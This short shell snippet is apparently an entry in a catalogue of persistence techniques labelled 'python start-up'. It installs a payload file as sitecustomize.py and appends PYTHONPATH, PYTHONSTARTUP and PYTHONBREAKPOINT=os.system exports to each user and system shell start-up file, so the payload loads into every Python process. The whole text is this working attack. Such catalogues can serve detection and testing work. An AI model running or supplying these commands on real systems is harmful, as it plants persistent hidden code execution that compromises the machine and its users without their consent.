# family: python start-up
# what: Start-up files set PYTHONPATH and its kin.
# user: any
mkdir -p "$scratch/lib" && cp "$scratch/pay.py" "$scratch/lib/sitecustomize.py"
for file in "$HOME/.profile" "$HOME/.bashrc" "$HOME/.bash_profile" "$HOME/.pam_environment" /etc/environment /etc/profile; do
  echo "export PYTHONPATH=$scratch/lib PYTHONSTARTUP=$scratch/pay.py PYTHONBREAKPOINT=os.system" >> "$file"
done
